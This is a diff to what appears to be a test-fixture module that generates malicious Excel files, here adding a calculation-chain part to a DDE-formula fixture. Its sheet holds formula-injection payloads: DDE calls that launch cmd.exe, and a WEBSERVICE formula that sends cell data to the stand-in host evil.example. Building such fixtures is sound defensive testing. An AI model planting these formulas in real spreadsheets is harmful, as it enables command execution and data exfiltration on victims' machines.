@@ -232,6 +232,9 @@ export const XLSX_ATTACKS: Record<string, () => Buffer> = {
     }),
   ddeFormulas: () =>
     attackXlsx({
+      workbookRels: [{ id: "rId2", type: "calcChain", target: "calcChain.xml" }],
+      parts: { "xl/calcChain.xml": strToU8(`${HEAD}<calcChain xmlns="${SHEET}"><c r="B1" i="1"/><c r="C1"/><c r="D1"/><c r="E1"/><c r="F1"/></calcChain>`) },
+      types: '<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/>',
       sheet: sheet(
         `<c r="B1"><f>cmd|' /C calc'!A0</f><v>0</v></c><c r="C1"><f t="shared" ref="C1:D1" si="0">MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f><v>0</v></c>` +
           '<c r="D1"><f t="shared" si="0"/><v>0</v></c><c r="E1"><f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)</f><v>ok</v></c><c r="F1"><f>SUM(A1,"a|b")</f><v>150000</v></c>',
